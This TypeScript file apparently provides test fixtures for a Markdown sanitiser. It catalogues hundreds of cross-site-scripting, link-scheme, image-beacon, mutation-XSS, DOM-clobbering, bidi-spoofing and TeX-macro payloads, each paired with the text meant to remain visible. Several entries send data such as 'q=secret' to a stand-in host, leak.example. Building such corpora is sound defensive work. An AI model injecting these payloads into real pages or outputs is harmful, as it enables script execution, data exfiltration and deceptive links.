/** Markdown that means harm, and what of it has to be readable where that isn't all of it. */
export interface Payload {
  readonly name: string;
  readonly markdown: string;
  readonly shows: string;
}

/** A text, or a text with what has to be readable of it. */
type Written = string | readonly [markdown: string, shows: string];

const LEAK = 'https://leak.example';
const CALL = 'javascript:pwn(1)';

/** What executes script in a page that takes HTML as HTML. */
const ELEMENTS: Readonly<Record<string, Written>> = {
  'script element': '<script>pwn(1)</script>',
  'script element in capitals': '<SCRIPT>pwn(1)</SCRIPT>',
  'script element with a slash in its tag': '<script/x>pwn(1)</script/>',
  'script element from another place': `<script src="${LEAK}/x.js"></script>`,
  'script element inside a script element': '<scr<script>ipt>pwn(1)</scr</script>ipt>',
  'script element never closed': '<script>pwn(1)',
  'module script': '<script type="module">pwn(1)</script>',
  'script with the page’s own nonce': '<script nonce="dGVzdA">pwn(1)</script>',
  'img with onerror': '<img src=x onerror=pwn(1)>',
  'img with onerror, without spaces': '<img/src=x/onerror=pwn(1)>',
  'img with onerror over several lines': ['<img\nsrc=x\nonerror\n=\npwn(1)\n>', 'onerror'],
  'img with a tab in the attribute': '<img src=x\tonerror\t=\tpwn(1)>',
  'img with onerror in entities': '<img src=x onerror=&#112;&#119;&#110;&#40;1&#41;>',
  'img with srcset': `<img srcset="${LEAK}/1x 1x, ${LEAK}/2x 2x">`,
  'img never closed': '<img src=x onerror="pwn(1)" ',
  'image with a malformed tag': '<IMG """><SCRIPT>pwn(1)</SCRIPT>">',
  'svg with onload': '<svg onload=pwn(1)>',
  'svg with a script': '<svg><script>pwn(1)</script></svg>',
  'svg with a script by reference': '<svg><script href="data:text/javascript,pwn(1)" /></svg>',
  'svg with an animated address': `<svg><a><animate attributeName=href values=${CALL} /><text y=20>x</text></a></svg>`,
  'svg with a set': '<svg><set attributeName=onmouseover to=pwn(1)></svg>',
  'svg use from elsewhere': `<svg><use href="${LEAK}/x.svg#x"></use></svg>`,
  'svg foreignObject': '<svg><foreignObject><iframe srcdoc="<script>parent.pwn(1)</script>"></foreignObject></svg>',
  'svg image': `<svg><image href="${LEAK}/x.png"></svg>`,
  'MathML link': `<math href="${CALL}">click</math>`,
  'MathML action': `<math><maction actiontype="statusline#${LEAK}" xlink:href="${CALL}">click</maction></math>`,
  'body with onload': '<body onload=pwn(1)>',
  'body with onpageshow': '<body onpageshow=pwn(1)>',
  'input with autofocus': '<input autofocus onfocus=pwn(1)>',
  'select with autofocus': '<select autofocus onfocus=pwn(1)>',
  'textarea with autofocus': '<textarea autofocus onfocus=pwn(1)>',
  'keygen with autofocus': '<keygen autofocus onfocus=pwn(1)>',
  'details with ontoggle': '<details open ontoggle=pwn(1)>',
  'marquee with onstart': '<marquee onstart=pwn(1)>x</marquee>',
  'audio with onerror': `<audio src="${LEAK}/x.mp3" onerror=pwn(1)>`,
  'video with a source': '<video><source onerror=pwn(1)></video>',
  'video with a poster': `<video poster="${LEAK}/x.png"></video>`,
  'element with an animation’s handler': '<b style="animation:breathe 1s" onanimationstart=pwn(1)>x</b>',
  'element with contenteditable': '<div contenteditable autofocus onfocus=pwn(1)>x</div>',
  'element with accesskey': '<a accesskey=x onclick=pwn(1)>x</a>',
  'element with a popover': '<button popovertarget=x>y</button><div popover id=x onbeforetoggle=pwn(1)>z</div>',
  'custom element': '<x-y is=z onclick=pwn(1) tabindex=0>w</x-y>',
  'inline handler in a paragraph': 'before <b onmouseover=pwn(1)>bold</b> after',
  'handler with a line feed in its name': '<b on\nclick=pwn(1)>x</b>',
  'handler with a null character': '<b on\u0000click=pwn(1)>x</b>',
  'tag with a null character': '<scr\u0000ipt>pwn(1)</scr\u0000ipt>',
  'tag behind a less-than sign': '<<script>pwn(1)//<</script>',
  'tag with a non-breaking space': '<img\u00a0src=x\u00a0onerror=pwn(1)>',
  'half-width and full-width signs': '＜script＞pwn(1)＜/script＞',
  'tag in entities': ['&lt;script&gt;pwn(1)&lt;/script&gt;', '<script>pwn(1)</script>'],
  'tag in numbers': ['&#60;img src=x onerror=pwn(1)&#x3e;', '<img src=x onerror=pwn(1)>'],
  'tag in entities twice': ['&amp;lt;script&amp;gt;pwn(1)', '&lt;script&gt;pwn(1)'],
  'tag behind backslashes': ['\\<script\\>pwn(1)\\</script\\>', '<script>pwn(1)</script>'],
};

/** What loads, sends or redirects without any script. */
const FETCHERS: Readonly<Record<string, Written>> = {
  iframe: `<iframe src="${LEAK}/"></iframe>`,
  'iframe with srcdoc': '<iframe srcdoc="<script>parent.pwn(1)</script>"></iframe>',
  'iframe with a script’s address': `<iframe src="${CALL}"></iframe>`,
  object: `<object data="${LEAK}/x.swf"></object>`,
  'object with a data address': '<object data="data:text/html,<script>parent.pwn(1)</script>"></object>',
  embed: `<embed src="${LEAK}/x.swf">`,
  applet: `<applet code="${LEAK}/x.class"></applet>`,
  frameset: `<frameset><frame src="${LEAK}/"></frameset>`,
  'base address': `<base href="${LEAK}/">`,
  'meta refresh': `<meta http-equiv="refresh" content="0;url=${LEAK}/">`,
  'meta refresh to a script': `<meta http-equiv=refresh content="0;${CALL}">`,
  'meta that loosens the policy': `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
  'link to a stylesheet': `<link rel=stylesheet href="${LEAK}/x.css">`,
  'link to prefetch': `<link rel=prefetch href="${LEAK}/x"><link rel=dns-prefetch href="//leak.example">`,
  'link to an import': `<link rel=import href="${LEAK}/x.html">`,
  form: `<form action="${LEAK}/"><input name=q value=secret><button>Send</button></form>`,
  'form with a script’s action': `<form action="${CALL}"><input type=submit></form>`,
  'button with formaction': `<form id=f></form><button form=f formaction="${CALL}">X</button>`,
  'isindex with an action': `<isindex action="${CALL}" type=image>`,
  'background attribute': `<table background="${LEAK}/x.png"><td background="${CALL}">x</table>`,
  'ping attribute': `<a href="https://example.com" ping="${LEAK}/ping">x</a>`,
  portal: `<portal src="${LEAK}/"></portal>`,
  'track of a video': `<video><track src="${LEAK}/x.vtt" default></video>`,
  template: '<template shadowrootmode=open><script>pwn(1)</script></template>',
};

const STYLES: Readonly<Record<string, Written>> = {
  'style element': `<style>@import "${LEAK}/x.css"; body { display: none }</style>`,
  'style element with a selector that tells': `<style>input[value^=a] { background: url(${LEAK}/a) }</style>`,
  'style attribute': '<div style="position:fixed;inset:0;z-index:9999;background:red">over all</div>',
  'style attribute with an address': `<p style="background:url('${LEAK}/x')">x</p>`,
  'style attribute with an expression': '<p style="width:expression(pwn(1))">x</p>',
  'style with a binding': `<p style="-moz-binding:url(${LEAK}/x.xml#x)">x</p>`,
  'style attribute in an svg': `<svg><style>*{fill:url(${LEAK}/x#x)}</style></svg>`,
  'class of the page': '<div class="composer alert newest">Your session has ended</div>',
  'class by an attribute list': 'text {.alert #panel onclick=pwn(1)}',
  'class in a heading’s attribute list': ['# Title {#panel .shell onclick=pwn(1)}', 'Title {#panel .shell'],
};

/** Links that don't lead out, in their many spellings; the text stays, the link doesn't. */
const LINKS: Readonly<Record<string, Written>> = {
  'script link': [`[text](${CALL})`, 'text'],
  'script link in mixed case': ['[text](jAvAsCrIpT:pwn(1))', 'text'],
  'script link in angle brackets': ['[text](<javascript:pwn(1)>)', 'text'],
  'script link with a title': [`[text](${CALL} "onmouseover=pwn(2)")`, 'text'],
  'script link with a leading space': ['[text]( javascript:pwn(1))', 'text'],
  'script link with a leading control character': ['[text](\u0001javascript:pwn(1))', 'text'],
  'script link with a leading entity': ['[text](&#x01;javascript:pwn(1))', 'text'],
  'script link with a tab entity inside': ['[text](java&#x09;script:pwn(1))', 'text'],
  'script link with a line feed entity inside': ['[text](java&#10;script:pwn(1))', 'text'],
  'script link with a return entity inside': ['[text](java&#13;script:pwn(1))', 'text'],
  'script link with named white space': ['[text](java&Tab;script&NewLine;:pwn(1))', 'text'],
  'script link with a named colon': ['[text](javascript&colon;pwn&lpar;1&rpar;)', 'text'],
  'script link in decimal entities': ['[text](&#106;&#97;&#118;&#97;script:pwn(1))', 'text'],
  'script link in long entities': ['[text](&#0000106avascript:pwn(1))', 'text'],
  'script link in hexadecimal entities': ['[text](&#x6A;&#x61;&#x76;&#x61;script:pwn(1))', 'text'],
  'script link with an encoded colon': ['[text](javascript%3Apwn(1))', 'text'],
  'script link with a comment’s address': ['[text](javascript://example.com/%0Apwn(1))', 'text'],
  'script link with a backslash': ['[text](java\\script:pwn(1))', 'text'],
  'script link behind a soft hyphen': ['[text](\u00adjavascript:pwn(1))', 'text'],
  'script link with a null character': ['[text](java\u0000script:pwn(1))', 'text'],
  'script link behind a byte order mark': ['[text](\ufeffjavascript:pwn(1))', 'text'],
  'script link in full width': ['[text](ｊavascript:pwn(1))', 'text'],
  'script link in unbalanced brackets': ['[text](javascript:pwn(1', '[text](javascript:pwn(1'],
  'script link by reference': [`[text][r]\n\n[r]: ${CALL}`, 'text'],
  'script link by a collapsed reference': [`[text][]\n\n[text]: ${CALL}`, 'text'],
  'script link by a shortcut reference': [`[text]\n\n[text]: <${CALL}>`, 'text'],
  'script link as an autolink': [`<${CALL}>`, CALL],
  'script link as an autolink in capitals': ['<JAVASCRIPT:pwn(1)>', 'JAVASCRIPT:pwn(1)'],
  'script link around an image': [`[![alt](x)](${CALL})`, 'alt'],
  'script link in a heading': [`# [text](${CALL})`, 'text'],
  'script link in a table': [`| [text](${CALL}) |\n|--|\n| [cell](${CALL}) |`, 'cell'],
  'script link in a footnote': [`text[^1]\n\n[^1]: [note](${CALL})`, 'text'],
  'vbscript link': ['[text](vbscript:MsgBox(1))', 'text'],
  'livescript link': ['[text](livescript:pwn(1))', 'text'],
  'data link': ['[text](data:text/html;base64,PHNjcmlwdD5wd24oMSk8L3NjcmlwdD4=)', 'text'],
  'data link with a picture’s type': ['[text](data:image/svg+xml,<svg/onload=pwn(1)>)', 'text'],
  'data link in mixed case': ['[text](DaTa:text/html,x)', 'text'],
  'blob link': ['[text](blob:https://example.com/1)', 'text'],
  'filesystem link': ['[text](filesystem:https://example.com/temporary/x)', 'text'],
  'file link': ['[text](file:///etc/passwd)', 'text'],
  'file link to another machine': ['[text](file://leak.example/share)', 'text'],
  'path of another machine': ['[text](\\\\leak.example\\share)', 'text'],
  'command link': ['[text](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22x%22%7D)', 'text'],
  'command link in capitals': ['[text](COMMAND:workbench.action.quit)', 'text'],
  'command link as an autolink': ['<command:workbench.action.quit>', 'command:workbench.action.quit'],
  'vscode link': ['[text](vscode://file/etc/passwd)', 'text'],
  'vscode-insiders link': ['[text](vscode-insiders://ms.x/y)', 'text'],
  'vscode-webview link': ['[text](vscode-webview://x/index.html)', 'text'],
  'vscode-resource link': ['[text](https+vscode-resource://x)', 'text'],
  'ms-office link': ['[text](ms-word:ofe|u|https://leak.example/x.docx)', 'text'],
  'search-ms link': ['[text](search-ms:query=x&crumb=location:%5C%5Cleak.example)', 'text'],
  'view-source link': ['[text](view-source:https://example.com)', 'text'],
  'about link': ['[text](about:blank)', 'text'],
  'jar link': ['[text](jar:https://leak.example!/x.html)', 'text'],
  'tel link': ['[text](tel:+1900)', 'text'],
  'ssh link': ['[text](ssh://-oProxyCommand=x/y)', 'text'],
  'link without a scheme': ['[text](//leak.example/x)', 'text'],
  'link to a place in the page': ['[text](#panel)', 'text'],
  'relative link': ['[text](../../x)', 'text'],
  'empty link': ['[text]()', 'text'],
  'link that tries to leave its attribute': ['[text](https://example.com/"onmouseover="pwn(1))', 'text'],
  'link that tries to leave its title': ['[text](https://example.com/ "x\\" onmouseover=\\"pwn(1)")', 'text'],
  'link that tries to leave its element': ['[text](<https://example.com/></a><script>pwn(1)</script>>)', 'pwn(1)'],
  'link whose text is HTML': ['[<img src=x onerror=pwn(1)>](https://example.com/)', '<img src=x onerror=pwn(1)>'],
  'link with a user’s name that looks like a host': ['[text](https://example.com@leak.example/)', 'text'],
  'link with backslashes for slashes': ['[text](https:\\\\leak.example\\@example.com)', 'text'],
  'address in the text with a script behind it': [
    'https://example.com/<script>pwn(1)</script>',
    '<script>pwn(1)</script>',
  ],
  'www address with a quotation mark': ['www.example.com/"onmouseover=pwn(1)', 'onmouseover=pwn(1)'],
  'mail address with HTML': ['<a@example.com"onclick="pwn(1)>', 'onclick'],
};

/** Pictures whose address would carry the conversation away. */
const BEACONS: Readonly<Record<string, Written>> = {
  'picture from elsewhere': [`![the plan](${LEAK}/p.png?q=secret)`, 'the plan'],
  'picture by reference': [`![the plan][p]\n\n[p]: ${LEAK}/p.png?q=secret`, 'the plan'],
  'picture without a text': [`![](${LEAK}/p.png?q=secret)`, `${LEAK}/p.png?q=secret`],
  'picture inside a link': [`[![the plan](${LEAK}/p.png)](${LEAK}/x)`, 'the plan'],
  'picture in a table': [`| ![the plan](${LEAK}/p.png) |\n|--|`, 'the plan'],
  'picture in a list': [`- ![the plan](${LEAK}/p.png)`, 'the plan'],
  'picture with a script’s address': [`![the plan](${CALL})`, 'the plan'],
  'picture with a data address': ['![the plan](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9cHduKDEpPg==)', 'the plan'],
  'picture with a size': [`![the plan](${LEAK}/p.png =1x1)`, 'the plan'],
  'picture with a text that leaves it': ['![x"onerror="pwn(1)](x)', 'onerror="pwn(1)'],
  'picture with HTML in its text': ['![<img src=x onerror=pwn(1)>](x)', '<img src=x onerror=pwn(1)>'],
  'picture without a scheme': ['![the plan](//leak.example/p.png)', 'the plan'],
  'hundred pictures': [`![the plan](${LEAK}/p.png) `.repeat(100), 'the plan'],
};

/** HTML in every place that Markdown has for text. */
const PLACES: Readonly<Record<string, Written>> = {
  'HTML in a code span': ['`<img src=x onerror=pwn(1)>`', '<img src=x onerror=pwn(1)>'],
  'HTML in a fence': ['```html\n<script>pwn(1)</script>\n```', '<script>pwn(1)</script>'],
  'HTML that ends a fence’s element': [
    '```\n</code></pre><script>pwn(1)</script>\n```',
    '</code></pre><script>pwn(1)</script>',
  ],
  'HTML in a fence’s language': ['```"><img/src=x/onerror=pwn(1)>\nx\n```', '"><img/src=x/onerror=pwn(1)>'],
  'HTML in a fence’s title': ['```ts title="<img/src=x/onerror=pwn(1)>"\nx\n```', '<img/src=x/onerror=pwn(1)>'],
  'HTML in indented code': ['    <script>pwn(1)</script>', '<script>pwn(1)</script>'],
  'HTML in a heading': ['# <img src=x onerror=pwn(1)>', '<img src=x onerror=pwn(1)>'],
  'HTML in an underlined heading': ['<img src=x onerror=pwn(1)> x\n===', '<img src=x onerror=pwn(1)>'],
  'HTML in a list': ['- <img src=x onerror=pwn(1)>\n- b', '<img src=x onerror=pwn(1)>'],
  'HTML in a task': ['- [ ] <img src=x onerror=pwn(1)>', '<img src=x onerror=pwn(1)>'],
  'HTML in a quotation': ['> <img src=x onerror=pwn(1)>', '<img src=x onerror=pwn(1)>'],
  'HTML in a table’s head': ['| <img src=x onerror=pwn(1)> |\n|--|\n| b |', '<img src=x onerror=pwn(1)>'],
  'HTML in a table’s cell': ['| a |\n|--|\n| <script>pwn(1)</script> |', '<script>pwn(1)</script>'],
  'HTML in emphasis': ['**<img src=x onerror=pwn(1)>**', '<img src=x onerror=pwn(1)>'],
  'HTML in struck text': ['~~<img src=x onerror=pwn(1)>~~', '<img src=x onerror=pwn(1)>'],
  'HTML in a footnote': ['a[^1]\n\n[^1]: <img src=x onerror=pwn(1)>', '<img src=x onerror=pwn(1)>'],
  'HTML as the name of a footnote that there is': [
    'a[^<img/src=x/onerror=pwn(1)>]\n\n[^<img/src=x/onerror=pwn(1)>]: the note',
    'the note',
  ],
  'HTML as a footnote’s name': ['a[^<img/src=x/onerror=pwn(1)>]', '<img/src=x/onerror=pwn(1)>'],
  'HTML in a link definition’s title': ['[a]\n\n[a]: https://example.com/ "<img src=x onerror=pwn(1)>"', 'a'],
  'HTML in a comment': '<!--><img src=x onerror=pwn(1)>-->',
  'HTML in a conditional comment': '<!--[if gte IE 4]><script>pwn(1)</script><![endif]-->',
  'HTML in CDATA': '<![CDATA[><img src=x onerror=pwn(1)>]]>',
  'HTML in a processing instruction': '<?xml version="1.0"?><?x <img src=x onerror=pwn(1)>?>',
  'HTML in a declaration': '<!DOCTYPE x [<!ENTITY y "<script>pwn(1)</script>">]>',
  'HTML in a formula': ['$$<img src=x onerror=pwn(1)>$$', '<img src=x onerror=pwn(1)>'],
  'formula with a link': ['$\\href{javascript:pwn(1)}{x}$', 'pwn(1)'],
  'diagram with a click': [
    '```mermaid\ngraph TD; A-->B; click A "javascript:pwn(1)"\n```',
    'click A "javascript:pwn(1)"',
  ],
  'line break with a handler': 'a <br onclick=pwn(1)> b',
  'line break that is one': ['a<br>b<br/>c', 'abc'],
};

/** HTML that is harmless when read once and harmful when read again. */
const MUTATIONS: Readonly<Record<string, Written>> = {
  'style inside math':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=pwn(1)&gt;">',
  'noscript with a title': '<noscript><p title="</noscript><img src=x onerror=pwn(1)>">',
  'form inside a form': '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=pwn(1)>',
  'svg inside a paragraph': '<svg></p><style><a id="</style><img src=x onerror=pwn(1)>">',
  'select with a style': '<select><style></select><img src=x onerror=pwn(1)></style>',
  'xmp element': '<xmp><p title="</xmp><svg/onload=pwn(1)>">',
  'listing element': '<listing><img title="</listing><img src=x onerror=pwn(1)>">',
  'plaintext element': '<plaintext><img src=x onerror=pwn(1)>',
  'title element': '<title><img title="</title><img src=x onerror=pwn(1)>">',
  'textarea element': '<textarea><img title="</textarea><img src=x onerror=pwn(1)>">',
  'attribute between backticks': ['<img alt=`x` src=`y`onerror=pwn(1)>', 'onerror=pwn(1)>'],
  'table that lets its content out': '<table><a href="x"><img src=x onerror=pwn(1)></table>',
  'annotation with HTML':
    '<math><annotation-xml encoding="text/html"><p><style><img title="</style><img src=x onerror=pwn(1)>">',
};

/** Names that stand for something in a page or in JavaScript. */
const NAMES: Readonly<Record<string, Written>> = {
  'element with the page’s id': '<div id=panel>x</div>',
  'form named like a property': '<form name=body><input name=firstChild></form>',
  'anchors named alike': '<a id=acquireVsCodeApi></a><a id=acquireVsCodeApi name=postMessage href="x:pwn(1)">y</a>',
  'image named like a method': '<img name=getElementById><img name=querySelector>',
  'iframe named like a global': '<iframe name=trustedTypes srcdoc="<a id=createPolicy></a>"></iframe>',
  'link label __proto__': ['[text][__proto__] [__proto__]\n\n[__proto__]: https://example.com/ "t"', 'text'],
  'link label __proto__ without a definition': ['[text][__proto__] and [`__proto__`]', '__proto__'],
  'link label constructor': '[text][constructor] and [constructor]',
  'link label toString': '[text][toString], [hasOwnProperty] and [valueOf]',
  'link labels of an object, defined': [
    '[constructor] [prototype]\n\n[constructor]: javascript:pwn(1)\n[prototype]: https://example.com/',
    'constructor prototype',
  ],
  'footnotes named like an object’s': ['a[^__proto__] b[^constructor]\n\n[^__proto__]: the note', 'the note'],
  'language __proto__': ['```__proto__\nx\n```', '__proto__'],
  'language constructor': ['```constructor prototype\nx\n```', 'constructor'],
  'entity names of an object': ['a &constructor; &toString; &__proto__; b', '&constructor; &toString;'],
  'placeholders of a picture': ['![{name} $& $1 {constructor}](x)', '{name} $& $1 {constructor}'],
  'heading with the page’s id': ['# panel {#panel}\n\n# __proto__', 'panel {#panel}'],
  'table with names of an object': ['| __proto__ | constructor |\n|--|--|\n| toString | `__proto__` |', 'constructor'],
  'template syntax': '{{constructor.constructor("pwn(1)")()}} $\u007bpwn(1)} #{pwn(1)} <%= pwn(1) %>',
};

const RLO = '\u202e';
const LRO = '\u202d';
const RLI = '\u2067';
const PDI = '\u2069';
const PDF = '\u202c';

/** Characters that turn text around, look like others or like nothing. */
const LOOKS: Readonly<Record<string, Written>> = {
  'link text that is turned around': [`[${RLO}moc.elgoog](https://leak.example/) after`, 'moc.elgoog'],
  'link text that leaves its isolation': [`[a${PDI}${PDI}${RLO}b](https://leak.example/) after`, 'after'],
  'link text turned by an entity': ['[&#8238;moc.elgoog](https://leak.example/) after', 'moc.elgoog'],
  'address that is turned around': [`https://leak.example/${RLO}gpj.exe after`, 'after'],
  'address in angle brackets that is turned around': [`<https://leak.example/${RLO}gpj.exe> after`, 'after'],
  'link address that is turned around': [`[text](https://leak.example/${RLO}moc.elgoog//:sptth)`, 'text'],
  'host of letters from another script': ['[text](https://аррle.com/) https://аррle.com/', 'text'],
  'host with a zero-width space': ['[text](https://exam\u200bple.com/)', 'text'],
  'host in full width': ['[text](https://ｅｘａｍｐｌｅ.com/)', 'text'],
  'host with a slash’s lookalike': ['[text](https://example.com\u2044path.leak.example/)', 'text'],
  'text that claims another address': ['[https://example.com/](https://leak.example/)', 'https://example.com/'],
  'scheme with a zero-width space': ['[text](java\u200bscript:pwn(1))', 'text'],
  'file name that is turned around': [`\`\`\`ts src/${RLO}gpj.exe\nx\n\`\`\``, 'gpj.exe'],
  'code that is turned around': [
    `\`\`\`js\n/*${RLO} } ${RLI}if (isAdmin)${PDI} ${RLI} begin admins only */\n\`\`\``,
    'begin admins only',
  ],
  'code span that is turned around': [`\`${RLO}gpj.exe\` after`, 'after'],
  'heading that is turned around': [`# ${RLI}${RLO}title`, 'title'],
  'cell that is turned around': [`| ${LRO}${RLO}a${PDF} | b |\n|--|--|\n| ${RLI}c | d |`, 'd'],
  'picture’s text that is turned around': [`![${RLO}gpj.exe](https://leak.example/x) after`, 'after'],
  'two hundred embeddings': [`${RLO.repeat(200)}text [link](https://leak.example/)`, 'link'],
  'text of nothing': ['[\u200b\u200c\u200d\u2060\ufeff](https://leak.example/) after', 'after'],
  'letters under a heap of marks': [`[t${'\u0300'.repeat(500)}](https://leak.example/) after`, 'after'],
  'tag characters': ['text\u{e0069}\u{e0067}\u{e006e} after', 'after'],
  'lone surrogates': ['text \ud800 and \udc00 after', 'after'],
  'line and paragraph separators': ['text\u2028<script>pwn(1)</script>\u2029after', '<script>pwn(1)</script>'],
  'control characters': ['text\u0007\u0008\u001b[2J\u001b]8;;https://leak.example\u0007 after', 'after'],
};

/** What is nested, long or open beyond reason. */
const EXCESS: Readonly<Record<string, Written>> = {
  'nested brackets of links': [`${'['.repeat(500)}text${'](https://example.com/)'.repeat(500)}`, 'text'],
  'nested pictures': [`${'!['.repeat(200)}text${'](x)'.repeat(200)}`, 'text'],
  'nested quotations with HTML': [`${'> '.repeat(100)}<img src=x onerror=pwn(1)>`, '<img src=x onerror=pwn(1)>'],
  'nested lists with HTML': [`${'- '.repeat(100)}<script>pwn(1)</script>`, '<script>pwn(1)</script>'],
  'huge attribute': `<img alt="${'a'.repeat(20_000)}" src=x onerror=pwn(1)>`,
  'many attributes': `<img ${'a=b '.repeat(2_000)}onerror=pwn(1)>`,
  'huge address': [`[text](https://example.com/${'a'.repeat(20_000)})`, 'text'],
  'everything unclosed': '<a href="<b title=\'<!-- <script> **bold _em ~~s [l](<javascript:pwn(1)',
  'unclosed comment': '<!-- <img src=x onerror=pwn(1)>',
  'unclosed CDATA': '<![CDATA[ <img src=x onerror=pwn(1)>',
  'unclosed attribute': '<img src="x onerror=pwn(1)>',
  'unclosed anchor before a link': ['<a href="x">\n\n[text](javascript:pwn(1))', 'text'],
  'closing tags alone': '</div></article></main></body></html><script>pwn(1)</script>',
  'payload for every context': [
    'jaVasCript:/*-/*\'/*"/**/(/* */oNcliCk=pwn(1) )//</stYle/</titLe/</teXtarEa/</scRipt/--!><sVg/oNloAd=pwn(1)//>',
    '</scRipt/--!><sVg/oNloAd=pwn(1)//>',
  ],
};

/** Formulas: TeX has commands that link, load, name and style. */
const FORMULAS: Readonly<Record<string, Written>> = {
  'formula that links to a script': [`before $\\href{${CALL}}{x}$ after`, 'after'],
  'formula that is a script’s address': [`before $\\url{${CALL}}$ after`, 'after'],
  'formula that links elsewhere': [`before $\\href{${LEAK}}{x}$ after`, 'after'],
  'formula that loads a picture': [`before $\\includegraphics[height=1em]{${LEAK}/x.png}$ after`, 'after'],
  'formula with a class': ['before $\\htmlClass{alert}{x} \\class{composer}{y}$ after', 'after'],
  'formula with an id': ['before $\\htmlId{panel}{x} \\id{panel}{y} \\cssId{panel}{z}$ after', 'after'],
  'formula with a style': ['before $\\htmlStyle{position:fixed;inset:0}{x} \\style{color:red}{y}$ after', 'after'],
  'formula with data': ['before $\\htmlData{action=insert}{x} \\data{tex=y}{z}$ after', 'after'],
  'formula with a label': [
    'before\n\n$$x \\label{panel} \\tag{1}$$\n\nand $\\ref{panel} \\eqref{panel}$ after',
    'after',
  ],
  'formula with HTML for its text': ['before $\\text{<img src=x onerror=pwn(1)>}$ after', '<img src=x onerror=pwn(1)>'],
  'formula with HTML for its operator': ['before $\\operatorname{<script>pwn(1)</script>}$ after', 'after'],
  'formula with HTML for its tag': ['before\n\n$$x \\tag{<img src=x onerror=pwn(1)>}$$\n\nafter', 'after'],
  'formula with a color that is more': [`before $\\color{red;background:url(${LEAK}/x)} x$ after`, 'after'],
  'formula with a color that leaves its attribute': ['before $\\textcolor{#f00" onload="pwn(1)}{x}$ after', 'after'],
  'formula in a box of a color that loads': [
    `before $\\colorbox{url(${LEAK}/x)}{y} \\fcolorbox{a}{b}{c}$ after`,
    'after',
  ],
  'formula as large as can be': ['before $\\rule{99999em}{99999em} \\kern{99999em} \\hspace{99999em}$ after', 'after'],
  'formula that grows without end': ['before $\\def\\a{\\a\\a}\\a$ after', 'after'],
  'formula with a macro that stays': ['before $\\gdef\\frac#1#2{\\href{x}{y}}$ and $\\frac{1}{2}$ after', 'after'],
  'formula nested deep': [`before $${'{'.repeat(1_000)}x${'}'.repeat(1_000)}$ after`, 'after'],
  'formula of roots': [`before $${'\\sqrt{'.repeat(300)}x${'}'.repeat(300)}$ after`, 'after'],
  'formula never closed': ['before $\\frac{1}{ <img src=x onerror=pwn(1)> after', '<img src=x onerror=pwn(1)>'],
  'formula with a prototype’s names': [
    'before $\\constructor \\__proto__ \\toString$ $\\begin{constructor}x\\end{constructor}$ after',
    'after',
  ],
  'formula with an unknown character': ['before $\\char"202E abc \\unicode{x202e}$ after', 'after'],
  'formula that is turned around': [`before $x ${RLO} y$ after`, 'after'],
};

const GROUPS = { ELEMENTS, FETCHERS, STYLES, LINKS, BEACONS, PLACES, MUTATIONS, NAMES, LOOKS, FORMULAS, EXCESS };

/** By the ideas of the public collections, each in words of its own. */
export const PAYLOADS: readonly Payload[] = Object.values(GROUPS).flatMap(group =>
  Object.entries(group).map(([name, written]) => {
    const [markdown, shows] = typeof written === 'string' ? [written, written] : written;
    return { name, markdown, shows };
  }),
);
